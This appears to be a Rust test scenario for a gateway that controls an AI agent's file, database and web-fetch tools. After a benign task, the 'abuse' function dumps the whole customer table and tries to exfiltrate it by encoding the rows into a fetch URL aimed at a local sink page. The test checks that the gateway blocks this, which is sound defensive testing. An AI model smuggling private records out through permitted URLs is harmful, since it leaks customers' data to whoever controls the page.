//! The honest variant: the same tools for a task of the user's, who names the page. At most one question is asked.

use serde_json::{Value, json};

use super::agent::{Agent, Answer, Face, Kind};
use super::attack::{POLICIES, escaped, is_stopped};
use super::report::Report;
use super::sink::{PAGE_PATH, PAGE_TEXT, Sink};
use super::stage::{Gateway, Stage};

/// How many questions may be asked.
const QUESTIONS_MAX: usize = 1;

/// What is fetched for it.
const HONEST: [&str; 2] = ["/robots.txt", PAGE_PATH];

/// Whether the agent says what unit of work its calls belong to.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Ground {
    /// It says nothing: all that one user does with one client is one conversation.
    Fallback,
    /// It opens a task, and names it in each call.
    Task,
}

impl Ground {
    pub(super) const ALL: [Self; 2] = [Self::Fallback, Self::Task];

    const fn name(self) -> &'static str {
        match self {
            Self::Fallback => "fallback",
            Self::Task => "task",
        }
    }
}

/// Plays it once.
pub(super) fn play(
    stage: &Stage,
    pages: &Sink,
    (kind, face): (Kind, Face),
    ground: Ground,
    report: &mut Report,
) -> Result<(), String> {
    let scene = format!("{}-{}/honest-{}", kind.name, face.name(), ground.name());
    let gateway = Gateway::serve(stage, &scene.replace('/', "-"), &POLICIES)?;
    let mut agent = Agent::start(stage, &gateway, kind, face)?;
    let before = pages.requests().len();
    let handle = match ground {
        Ground::Fallback => None,
        Ground::Task => Some(agent.begin("files", "Say how many customers there are and when the office is open.")?),
    };
    let mut work = Work { gateway: &gateway, agent: &mut agent, handle, questions: 0 };
    let ended = work.whole(stage, pages);
    let questions = work.questions;
    let asked = pages.requests().split_off(before);
    let is_honest = |head: &&String| HONEST.iter().any(|path| head.starts_with(&format!("GET {path} ")));
    let others = asked.iter().filter(|head| !is_honest(head)).count();
    let ended = match ended {
        Ok(()) if questions > QUESTIONS_MAX => Err(format!("{questions} questions were asked")),
        Ok(()) if others > 0 => Err(format!("something else was fetched: {asked:?}")),
        ended => ended,
    };
    report.honest(&scene, questions, ended);
    abuse(&mut agent, pages, &scene, report)
}

/// That the page may be fetched does not mean that the customers may go to whoever has it.
fn abuse(agent: &mut Agent, pages: &Sink, scene: &str, report: &mut Report) -> Result<(), String> {
    let rows = agent.call("customers", "read_query", &json!({ "query": "SELECT * FROM customers" }))?;
    let before = pages.requests().len();
    let url = format!("http://127.0.0.1:{}{PAGE_PATH}?d={}", pages.port(), escaped(&rows.text));
    let answer = agent.call("web", "fetch", &json!({ "url": url }))?;
    report.attempt(&format!("{scene}/named-page-with-data"), is_stopped(&answer, pages.requests().len() - before));
    Ok(())
}

struct Work<'a> {
    gateway: &'a Gateway<'a>,
    agent: &'a mut Agent,
    handle: Option<String>,
    questions: usize,
}

impl Work<'_> {
    fn whole(&mut self, stage: &Stage, pages: &Sink) -> Result<(), String> {
        let file =
            stage.file("agenda.md", "# Agenda\n\nHow many customers do we have, and when is the office open?\n")?;
        let page = format!("http://127.0.0.1:{}{PAGE_PATH}", pages.port());
        self.must("files", "read_text_file", &json!({ "path": file }), "How many customers")?;
        self.must("customers", "read_query", &json!({ "query": "SELECT count(*) AS n FROM customers" }), "2")?;
        self.must("web", "fetch", &json!({ "url": page }), PAGE_TEXT)?;
        // What was answered once is not asked again.
        self.must("web", "fetch", &json!({ "url": page }), PAGE_TEXT)
    }

    /// The call brings what it should; where a person is asked, the person says yes.
    fn must(&mut self, server: &str, tool: &str, arguments: &Value, wanted: &str) -> Result<(), String> {
        let mut arguments = arguments.clone();
        if let (Some(handle), Some(members)) = (&self.handle, arguments.as_object_mut()) {
            members.insert("doorward_context".to_owned(), json!(handle));
        }
        let arguments = &arguments;
        let mut answer = self.agent.call(server, tool, arguments)?;
        if answer.code().is_some() {
            answer = self.agent.call(server, tool, arguments)?;
        }
        if answer.code() == Some("DW1220") {
            self.endorse()?;
            answer = self.agent.call(server, tool, arguments)?;
        }
        let Answer { text, failed } = answer;
        if failed || !text.contains(wanted) { Err(format!("{server}/{tool}: {text}")) } else { Ok(()) }
    }

    fn endorse(&mut self) -> Result<(), String> {
        for row in self.gateway.told_json(&["approvals", "list", "--json"])? {
            self.questions += 1;
            let id = row.get("id").and_then(Value::as_str).ok_or("a question has no id")?;
            self.gateway.told(&["approvals", "endorse", id, "--yes"])?;
        }
        Ok(())
    }
}
